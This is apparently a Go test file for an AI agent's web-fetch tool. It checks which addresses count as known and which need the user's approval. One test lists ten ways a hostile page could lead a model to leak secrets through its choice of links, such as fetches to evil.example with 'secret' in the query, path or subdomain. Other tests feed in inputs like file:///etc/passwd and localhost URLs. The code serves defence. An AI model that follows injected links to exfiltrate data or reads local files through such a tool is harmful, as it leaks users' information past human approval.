package webtools

import (
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"mews/protocol"
	"mews/supervisor"
	"mews/supervisor/egress"
	"mews/supervisor/feature/featuretest"
	"mews/supervisor/sqlite/sqlitetest"
)

func serveText(mediaType, text string) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", mediaType)
		_, _ = w.Write([]byte(text))
	}
}

func TestFetch_Page_IsKeptForWorker(t *testing.T) {
	r := newFetchRig(t)
	r.web.Serve("example.org", func(w http.ResponseWriter, q *http.Request) {
		if q.URL.Path != "/tea" {
			http.Redirect(w, q, "http://www.example.org/tea", http.StatusFound)
		}
	})
	r.web.Serve("www.example.org", serveText(`Text/HTML; charset="UTF-8"`, "hello"))
	r.say("look at http://example.org/")
	call := r.call(`{"url":"http://example.org/"}`)
	got, err := r.answer(call)
	if err != nil {
		t.Fatal(err)
	}
	if got.Address != "http://www.example.org/tea" || got.Status != 200 || got.MediaType != "text/html" ||
		got.Charset != "UTF-8" || got.Body.Size != 5 || got.Age != 0 {
		t.Errorf("got %+v", got)
	}
	if _, owns, err := r.db.Blobs().IsOwner(t.Context(), "ann", got.Body.SHA256); err != nil || !owns {
		t.Errorf("the worker may not read the body: %v", err)
	}
	r.commit(call)
	texts := sqlitetest.QueryColumn(t, r.db, `SELECT (parts ->> '$[0].result.world') || ' ' ||
		(parts ->> '$[0].result.origins') FROM message WHERE role = 'tool'`)
	if len(texts) != 1 || texts[0] != `1 ["web:example.org","web:www.example.org"]` {
		t.Errorf("the result is committed as %q", texts)
	}
}

// TestFetch_AddressFromUserOrSearch_IsKnown: the user's own words, a search and a page name
// addresses.
func TestFetch_AddressFromUserOrSearch_IsKnown(t *testing.T) {
	r := newFetchRig(t)
	r.web.Serve("example.org", serveText("text/html", pageWith("/b?c=1", "https://other.example/", "#x")))
	r.web.Serve("bücher.example", serveText("text/plain", ""))
	r.web.Serve("xn--bcher-kva.example", serveText("text/plain", ""))
	r.say("Look at http://example.org/a?q=tea, example.org/plain and <http://BÜCHER.example>.\n" +
		"> http://example.org/quoted")
	turn := featuretest.NewTurn("ann")
	turn.ID = r.turn.ID
	if err := r.fetcher.RecordSearch(t.Context(), turn, []string{"http://example.org/hit", "no address"}); err != nil {
		t.Fatal(err)
	}
	for _, test := range []struct{ address, effect string }{
		{"http://example.org/a?q=tea#part", EffectWebKnown},
		{"HTTP://Example.org.:80/a?q=tea", EffectWebKnown},
		{"http://example.org/plain", EffectWebKnown},
		{"http://bücher.example/", EffectWebKnown},
		{"http://example.org/hit", EffectWebKnown},
		{"http://example.org/b?c=1", EffectWebKnown}, // the page /a names it
		{"http://example.org/quoted", EffectWebNew},
		{"http://example.org/a?q=secret", EffectWebNew},
		{"http://example.org/a", EffectWebNew},
		{"http://example.org/", EffectWebNew},
		{"http://example.org/a?q=tea&x=1", EffectWebNew},
		{"http://example.org/b?c=2", EffectWebNew},
	} {
		if effect, _, _ := r.fetch(test.address); effect != test.effect {
			t.Errorf("%s: got %s, want %s", test.address, effect, test.effect)
		}
	}
	if effect, _, _ := r.fetch("http://example.org/plain"); effect != EffectWebKnown {
		t.Error("the same address is new")
	}
	r.say("thanks")
	if effect, _, _ := r.fetch("http://example.org/plain"); effect != EffectWebKnown {
		t.Error("an address of an earlier message is new")
	}
}

func parse(t *testing.T, address string) egress.Address {
	t.Helper()
	a, err := egress.ParseAddress(address)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// TestFetch_LeaksByLinks_AreNew has 10 ways in which a page may have a model spell out words by the
// choice of links. Each fetch beyond the rules must be new, so that the user is asked.
func TestFetch_LeaksByLinks_AreNew(t *testing.T) {
	var letters []string
	for c := 'a'; c <= 'z'; c++ {
		letters = append(letters, "http://evil.example/"+string(c))
	}
	subdomains := []string{"http://a.evil.example/", "http://b.evil.example/", "http://c.evil.example/",
		"http://d.evil.example/"}
	many := make([]string, 80)
	for i := range many {
		many[i] = fmt.Sprintf("http://n%d.example/", i)
	}
	for name, c := range map[string]struct {
		page    string
		fetches []string // addresses that the model fetches after the page
		known   int      // how many of the first fetches are known
	}{
		"the query":         {pageWith("http://evil.example/?q="), []string{"http://evil.example/?q=secret"}, 0},
		"the path":          {pageWith("http://evil.example/"), []string{"http://evil.example/secret"}, 0},
		"the host":          {pageWith("http://evil.example/"), []string{"http://secret.evil.example/"}, 0},
		"the scheme":        {pageWith("https://evil.example/"), []string{"http://evil.example/"}, 0},
		"the letters' case": {pageWith("http://evil.example/abc"), []string{"http://evil.example/aBc"}, 0},
		"an order":          {pageWith("http://evil.example/?a=1&b=2"), []string{"http://evil.example/?b=2&a=1"}, 0},
		"an empty part": {pageWith("http://evil.example/a"), []string{"http://evil.example/a/",
			"http://evil.example//a"}, 0},
		"a letter a link": {pageWith(letters...), letters[:6], 3},
		"subdomains":      {pageWith(subdomains...), subdomains, 3},
		"a far link":      {pageWith(many...), []string{"http://n49.example/", "http://n50.example/"}, 1},
	} {
		r := newFetchRig(t)
		for _, host := range []string{"evil.example", "secret.evil.example", "a.evil.example", "b.evil.example",
			"c.evil.example", "d.evil.example", "n49.example", "n50.example"} {
			r.web.Serve(host, serveText("text/plain", "more"))
		}
		r.web.Serve("page.example", serveText("text/html", c.page))
		r.say("read http://page.example/")
		if effect, _, _ := r.fetch("http://page.example/"); effect != EffectWebKnown {
			t.Fatalf("%s: the page is new", name)
		}
		for i, address := range c.fetches {
			want := map[bool]string{true: EffectWebKnown, false: EffectWebNew}[i < c.known]
			if effect, _, _ := r.fetch(address); effect != want {
				t.Errorf("%s: fetch %d of %s is %s, want %s", name, i+1, address, effect, want)
			}
		}
	}
}

// TestFetch_NextTurn_CountsAnew: each turn may follow three links of a page.
func TestFetch_NextTurn_CountsAnew(t *testing.T) {
	r := newFetchRig(t)
	r.web.Serve("example.org", serveText("text/html", pageWith("/1", "/2", "/3", "/4")))
	for range 2 {
		r.say("read http://example.org/")
		r.fetch("http://example.org/")
		for i := 1; i <= 4; i++ {
			want := map[bool]string{true: EffectWebKnown, false: EffectWebNew}[i <= maxPageFetches]
			if effect, _, _ := r.fetch(fmt.Sprintf("http://example.org/%d", i)); effect != want {
				t.Errorf("link %d is %s, want %s", i, effect, want)
			}
		}
	}
}

// TestFetch_Refused_LooksUpNothing: the user is asked before a name is looked up, and the question
// has the address of the model's call.
func TestFetch_Refused_LooksUpNothing(t *testing.T) {
	r := newFetchRig(t)
	r.web.Serve("evil.example", serveText("text/plain", ""))
	r.say("hello")
	r.refuse = supervisor.ErrWaitsForAnswer
	_, err := r.answer(r.call(`{"url":"http://evil.example/?q=secret"}`))
	if !errors.Is(err, supervisor.ErrWaitsForAnswer) || len(r.web.Dialed()) != 0 {
		t.Errorf("got error %v, dialed %q", err, r.web.Dialed())
	}
	q := r.asked[0]
	if q.Effect != EffectWebNew || !strings.Contains(q.Text, "evil.example?") ||
		!strings.Contains(q.Text, "http://evil.example/?q=secret") ||
		q.Arguments[0] != "http://evil.example/?q=secret" {
		t.Errorf("asked %+v", q)
	}
}

func TestFetch_BadArguments_AreRefused(t *testing.T) {
	r := newFetchRig(t)
	r.say("hello")
	for _, arguments := range []string{`{}`, `{"url":7}`, `{"url":"x","URL":"y"}`,
		`{"url":"http://a.example","x":1}`, `[]`,
		`{"url":"file:///etc/passwd"}`, `{"url":"http://127.0.0.1/"}`, `{"url":"http://u:hunter2@example.org/"}`} {
		call := r.call(arguments)
		_, err := r.answer(call)
		r.commit(call)
		var refused *protocol.Error
		var told *supervisor.Error
		if !errors.As(err, &refused) && !errors.As(err, &told) || strings.Contains(fmt.Sprint(err), "hunter2") {
			t.Errorf("%s: got %v", arguments, err)
		}
	}
	if len(r.asked) != 0 || len(r.web.Dialed()) != 0 {
		t.Errorf("asked %v, dialed %q", r.asked, r.web.Dialed())
	}
}

// TestFetch_SecondFetch_UsesKeptAnswer: a page is kept for 15 minutes, for its user alone.
func TestFetch_SecondFetch_UsesKeptAnswer(t *testing.T) {
	r := newFetchRig(t)
	asked := 0
	r.web.Serve("example.org", func(w http.ResponseWriter, q *http.Request) {
		asked++
		if q.URL.Path == "/gone" {
			w.WriteHeader(404)
		}
		fmt.Fprint(w, asked)
		if q.URL.Path == "/large" {
			_, _ = w.Write(make([]byte, maxKeptBody))
		}
	})
	r.say("read http://example.org/")
	for _, step := range []struct {
		address string
		after   time.Duration
		body    string
		age     int
	}{
		{"http://example.org/", 0, "1", 0},
		{"http://example.org/#part", 0, "1", 1},
		{"http://example.org/", keepAnswer - time.Second, "1", 899},
		{"http://example.org/", time.Second, "2", 0},
		{"http://example.org/gone", 0, "3", 0},
		{"http://example.org/gone", 0, "4", 0},
		{"http://example.org/large", 0, "5", 0},
		{"http://example.org/large", 0, "6", 0},
	} {
		r.now = r.now.Add(step.after)
		_, body, got := r.fetch(step.address)
		if strings.TrimRight(body, "\x00") != step.body || got.Age != step.age {
			t.Errorf("%s after %s: got %.9q of age %d, want %q of age %d", step.address, step.after, body, got.Age,
				step.body, step.age)
		}
	}
	if _, found := r.fetcher.cache.find("bob", parse(t, "http://example.org/")); found {
		t.Error("bob gets a page that ann has fetched")
	}
}

func TestCache_ManyAnswers_StaysBounded(t *testing.T) {
	now := time.Now()
	c := newCache(func() time.Time { return now })
	for i := range 20 {
		c.put("ann", parse(t, fmt.Sprintf("http://example.org/%d", i%15)), keptAnswer{body: strings.Repeat("x",
			maxKeptBody), at: now})
		if c.bytes > maxKeptOfCache || c.bytes != len(c.order)*maxKeptBody || len(c.order) != len(c.answers) {
			t.Fatalf("%d bytes in %d answers", c.bytes, len(c.answers))
		}
	}
	now = now.Add(keepAnswer)
	if _, found := c.find("ann", parse(t, "http://example.org/4")); found || c.bytes != 0 || len(c.answers) != 0 {
		t.Errorf("%d bytes are kept too long", c.bytes)
	}
}

// TestFetch_CallAgain_GetsKeptAnswer: a worker that asks again gets the kept answer.
func TestFetch_CallAgain_GetsKeptAnswer(t *testing.T) {
	r := newFetchRig(t)
	asked := 0
	r.web.Serve("example.org", func(w http.ResponseWriter, _ *http.Request) {
		asked++
		fmt.Fprint(w, asked)
	})
	r.say("read http://example.org/")
	call := r.call(`{"url":"http://example.org/"}`)
	first, err := r.answer(call)
	if err != nil {
		t.Fatal(err)
	}
	r.restart()
	second, err := r.answer(call)
	if err != nil || *second != *first || asked != 1 {
		t.Errorf("got %+v and error %v after %+v, and %d requests", second, err, first, asked)
	}
}
